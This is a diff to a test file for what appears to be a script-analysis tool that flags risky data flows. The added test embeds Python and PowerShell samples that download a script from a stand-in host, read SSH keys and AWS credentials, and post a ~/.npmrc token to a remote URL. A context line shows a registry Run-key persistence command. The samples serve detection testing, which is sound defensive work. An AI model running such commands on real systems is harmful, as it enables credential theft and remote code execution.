@@ -555,6 +555,28 @@ Set-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run 
   t.end()
 })
 
+t.test('words of a list and parts of a path stay apart', t => {
+  const python = read(
+    `import subprocess, glob, os
+command = ["curl", "-fsSL", "https://h.invalid/x.sh", "-o", "/tmp/x.sh"]
+subprocess.run(command)
+for pattern in (".ssh/id_*", ".aws/credentials"):
+    data = open(os.path.join(os.path.expanduser("~"), pattern)).read()
+`,
+    'python',
+  )
+  t.same(flowsOf(python), ['network:https://h.invalid/x.sh > write:content'])
+  t.ok(python.facts.some(fact => fact.kind === 'writes' && fact.paths.includes('/tmp/x.sh')))
+  const powershell = read(
+    `$file = Join-Path -Path $HOME -ChildPath '.npmrc'
+Invoke-RestMethod -Uri 'https://h.invalid/t' -Method Post -Body (Get-Content $file -Raw)
+`,
+    'powershell',
+  )
+  t.same(flowsOf(powershell), ['credential-file:~/.npmrc > network:payload'])
+  t.end()
+})
+
 t.test('batch files are followed line by line', t => {
   const reading = read(
     `@echo off\r
